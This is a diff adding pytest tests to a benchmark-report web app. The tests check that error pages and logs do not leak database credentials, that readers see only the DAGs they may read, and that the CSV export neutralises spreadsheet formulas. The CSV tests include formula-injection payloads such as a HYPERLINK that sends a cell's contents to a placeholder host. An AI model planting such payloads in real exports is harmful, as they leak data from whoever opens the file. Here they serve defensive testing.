@@ -409,19 +409,175 @@ def test_view_refuses_bad_filters_with_400(client, query, field):
     assert page.status_code == 400 and f"Bad filter: {field}:" in page.text and '<form class="filters"' in page.text
 
 
-def test_view_answers_503_when_the_warehouse_is_down():
+def test_view_answers_503_when_the_warehouse_is_down(caplog):
+    """The answer names the problem only; the address, port and user go to the log, the password nowhere."""
     from fastapi.testclient import TestClient
 
     from fleetbench.report.web import create_app
     from fleetbench.warehouse import get_engine
 
-    app = create_app(engine_factory=lambda: get_engine("postgresql+psycopg2://u:s3cret@127.0.0.1:1/none"))
-    with TestClient(app) as c:
+    app = create_app(engine_factory=lambda: get_engine("postgresql+psycopg2://fbreader:s3cret@127.0.0.1:59999/none"))
+    with TestClient(app) as c, caplog.at_level("WARNING", logger="fleetbench.report.web"):
         resp = c.get("/report.json")
-        assert resp.status_code == 503 and resp.json()["detail"].startswith("cannot read the warehouse (postgresql): ")
-        assert "s3cret" not in resp.text
         page = c.get("/")
-        assert page.status_code == 503 and "cannot read the warehouse" in page.text
+        download = c.get("/throughput.csv")
+    for text in (resp.text, page.text, download.text):
+        assert not [s for s in ("127.0.0.1", "59999", "fbreader", "s3cret", "psycopg2", "Connection refused")
+                    if s in text]
+    assert resp.status_code == 503 and resp.json()["detail"].startswith("The warehouse is not reachable")
+    assert page.status_code == 503 and "The warehouse is not reachable" in page.text
+    assert download.status_code == 503 and download.json() == resp.json()
+    logged = caplog.text
+    assert "postgresql+psycopg2://fbreader:***@127.0.0.1:59999/none" in logged and "Connection refused" in logged
+    assert "s3cret" not in logged
+
+
+def test_warehouse_errors_are_logged_without_the_password(caplog):
+    """A driver message that repeats the password is logged with it redacted; other errors say "could not be read"."""
+    from sqlalchemy.exc import OperationalError, ProgrammingError
+
+    from fleetbench.report.web import UNREADABLE, warehouse_error
+    from fleetbench.warehouse import get_engine
+
+    engine = get_engine("postgresql+psycopg2://fbreader:s3cret@db.example:5432/fleet")
+    with caplog.at_level("WARNING", logger="fleetbench.report.web"):
+        exc = warehouse_error(engine, OperationalError("connect", {}, Exception("invalid dsn: password=s3cret host=db")))
+        other = warehouse_error(engine, ProgrammingError("SELECT 1", {}, Exception('relation "x" does not exist')))
+    assert exc.status_code == other.status_code == 503
+    assert other.detail == UNREADABLE and "db.example" not in exc.detail + other.detail
+    assert "invalid dsn: password=*** host=db" in caplog.text and "fbreader:***@db.example:5432" in caplog.text
+    assert "s3cret" not in caplog.text
+    engine.dispose()
+
+
+# -- who sees what: the view shows only the DAGs the reader may read ------------------------------------------
+def _options(html: str) -> dict[str, list[str]]:
+    """The filter form's drop-downs: select name -> option values (without "all")."""
+    import re
+
+    return {name: [v for v in re.findall(r'<option value="([^"]*)"', body) if v]
+            for name, body in re.findall(r'<select name="(\w+)">(.*?)</select>', html)}
+
+
+@pytest.fixture()
+def two_dags(history):
+    from browser.private_history import store_private_history
+
+    store_private_history(history)
+    return history
+
+
+def _client(engine, readable=None):
+    from fastapi.testclient import TestClient
+
+    from fleetbench.report.web import create_app
+
+    return TestClient(create_app(engine_factory=lambda: engine, readable_dags=lambda: readable))
+
+
+def _sections(report: dict) -> dict:
+    return {k: v for k, v in report.items() if k not in ("generated_at", "filters", "options", "warehouse")}
+
+
+def test_view_shows_only_the_dags_the_reader_may_read(two_dags):
+    from browser.private_history import DAG, HOST, MODEL, secrets_in
+
+    with _client(two_dags) as everyone:  # without a restriction the other DAG's results are there
+        page = everyone.get("/").text
+        assert _options(page) == {"host": sorted(["gpu-a", "gpu-b", "gpu-c", HOST]),
+                                  "model": sorted(["resnet50", "vgg16", MODEL]), "dag_id": sorted(["fleet_benchmark", DAG])}
+        assert secrets_in(page) and secrets_in(everyone.get("/throughput.csv").text)
+    with _client(two_dags, frozenset({"fleet_benchmark", "not_in_the_warehouse"})) as reader:
+        resp = reader.get("/")
+        assert resp.status_code == 200 and secrets_in(resp.text) == []
+        assert _options(resp.text) == {"host": ["gpu-a", "gpu-b", "gpu-c"], "model": ["resnet50", "vgg16"]}
+        page = Page(resp.text)
+        assert not [label for plot in page.plots.values() for label in plot if HOST in label]
+        data = reader.get("/report.json")
+        assert secrets_in(data.text) == []
+        assert data.json()["options"] == {"hosts": ["gpu-a", "gpu-b", "gpu-c"], "models": ["resnet50", "vgg16"],
+                                          "dag_ids": ["fleet_benchmark"]}
+        # every section (window, runs, latest run, regressions, ...) is what fleet_benchmark alone has
+        assert _sections(data.json()) == _sections(report_of(two_dags, dag_id="fleet_benchmark"))
+        download = reader.get("/throughput.csv")
+        assert download.status_code == 200 and secrets_in(download.text) == []
+        assert {r["dag_id"] for r in csv_rows(download.text)} == {"fleet_benchmark"}
+        # asking for the other DAG's results, its host or its model finds nothing (the answer repeats the question)
+        for field, value in (("dag_id", DAG), ("host", HOST), ("model", MODEL)):
+            resp = reader.get("/report.json", params={field: value})
+            assert resp.json()["state"] == "no_match" and secrets_in(resp.text) == [value]
+            assert secrets_in(reader.get("/", params={field: value}).text) == [value]
+            assert csv_rows(reader.get("/throughput.csv", params={field: value}).text) == []
+    with _client(two_dags, frozenset()) as nobody:
+        resp = nobody.get("/")
+        assert Page(resp.text).state == "empty" and secrets_in(resp.text) == [] and "fleet_benchmark" not in resp.text
+        assert nobody.get("/report.json").json()["options"] == {"hosts": [], "models": [], "dag_ids": []}
+        assert csv_rows(nobody.get("/throughput.csv").text) == []
+
+
+# -- the CSV download ----------------------------------------------------------------------------------------
+def csv_rows(text: str) -> list[dict]:
+    import csv
+    import io
+
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted():
+    import csv
+    import io
+
+    from fleetbench.report.render import CSV_POINT_COLUMNS, CSV_SERIES_COLUMNS, csv_cell, render_csv
+
+    for text in ("=1+2", "+cmd", "-2+3", "@SUM(A1:A9)", "\tx", "\r=x"):
+        assert csv_cell(text) == "'" + text
+    for value in (-3.5, -1, 0, 2.25, None, "gpu-a", "535.104.05", "a=b", " =x", "'quoted"):
+        assert csv_cell(value) == value  # numbers (negative ones too) stay numbers; only leading characters count
+    report = {"throughput": [{
+        "model": "resnet50", "host": "=HYPERLINK(\"http://x.invalid/\",\"open\")", "case_key": "+tf.resnet50",
+        "gpu": None, "num_gpus": 1, "batch_size_per_device": 64,
+        "points": [{"dag_id": "-fleet", "run_id": "@run", "logical_date": "2026-11-01T02:00:00+00:00",
+                    "images_per_sec": -3.5, "driver_version": "\t=1+1"},
+                   {"dag_id": "fleet", "run_id": "\r=2", "logical_date": "2026-11-02T02:00:00+00:00",
+                    "images_per_sec": 401.25, "driver_version": "550.54.15"}]}]}
+    text = render_csv(report)
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows[0] == list(CSV_SERIES_COLUMNS + CSV_POINT_COLUMNS)
+    first, second = (dict(zip(rows[0], r)) for r in rows[1:])
+    assert first["host"] == "'=HYPERLINK(\"http://x.invalid/\",\"open\")" and first["case_key"] == "'+tf.resnet50"
+    assert first["dag_id"] == "'-fleet" and first["run_id"] == "'@run" and first["driver_version"] == "'\t=1+1"
+    assert first["images_per_sec"] == "-3.5" and first["num_gpus"] == "1" and first["gpu"] == "" and first["min"] == ""
+    assert second["run_id"] == "'\r=2" and second["images_per_sec"] == "401.25" and second["dag_id"] == "fleet"
+    assert text.endswith("\r\n") and len(rows) == 3
+
+
+def test_view_csv_has_the_warehouse_numbers_and_quotes_formulas(engine):
+    """A driver version and a run id that a spreadsheet would run arrive quoted; the numbers as numbers."""
+    from fleetbench.warehouse import store_run, upgrade
+
+    upgrade(engine)
+    evil_driver, evil_run = '=HYPERLINK("http://x.invalid/?"&A1,"driver")', "+manual__1"
+    rows = [result_row("c1", run_id=evil_run, host="gpu-a", ips=401.5, driver_version=evil_driver),
+            result_row("c2", run_id=evil_run, host="gpu-a", ips=99.25, driver_version="550.54.15")]
+    store_run(engine, plain_run_row(evil_run), [], rows)
+    with _client(engine) as c:
+        resp = c.get("/throughput.csv", params={"host": "gpu-a"})
+        page = c.get("/", params={"host": "gpu-a"})
+    assert resp.status_code == 200 and resp.headers["content-type"] == "text/csv; charset=utf-8"
+    assert resp.headers["content-disposition"] == 'attachment; filename="fleetbench-throughput.csv"'
+    got = {r["case_key"]: r for r in csv_rows(resp.text)}
+    assert got["c1"]["driver_version"] == "'" + evil_driver and got["c1"]["run_id"] == "'" + evil_run
+    assert got["c2"]["driver_version"] == "550.54.15"
+    assert {k: float(r["images_per_sec"]) for k, r in got.items()} == {"c1": 401.5, "c2": 99.25}
+    assert '<a id="csv" href="throughput.csv?host=gpu-a">' in page.text  # the page links its filtered CSV
+
+
+def test_view_csv_is_the_throughput_plots_points(client, history):
+    resp = client.get("/throughput.csv", params={"since": "2026-11-04"})
+    got = sorted((r["host"], r["case_key"], r["run_id"], float(r["images_per_sec"])) for r in csv_rows(resp.text))
+    assert got == sorted((r["host"], r["case_key"], r["run_id"], r["images_per_sec"]) for r in ok_rows(history)
+                         if r["logical_date"] >= "2026-11-04")
+    assert client.get("/throughput.csv?hots=gpu-a").status_code == 400
 
 
 def test_view_on_an_empty_warehouse(engine):
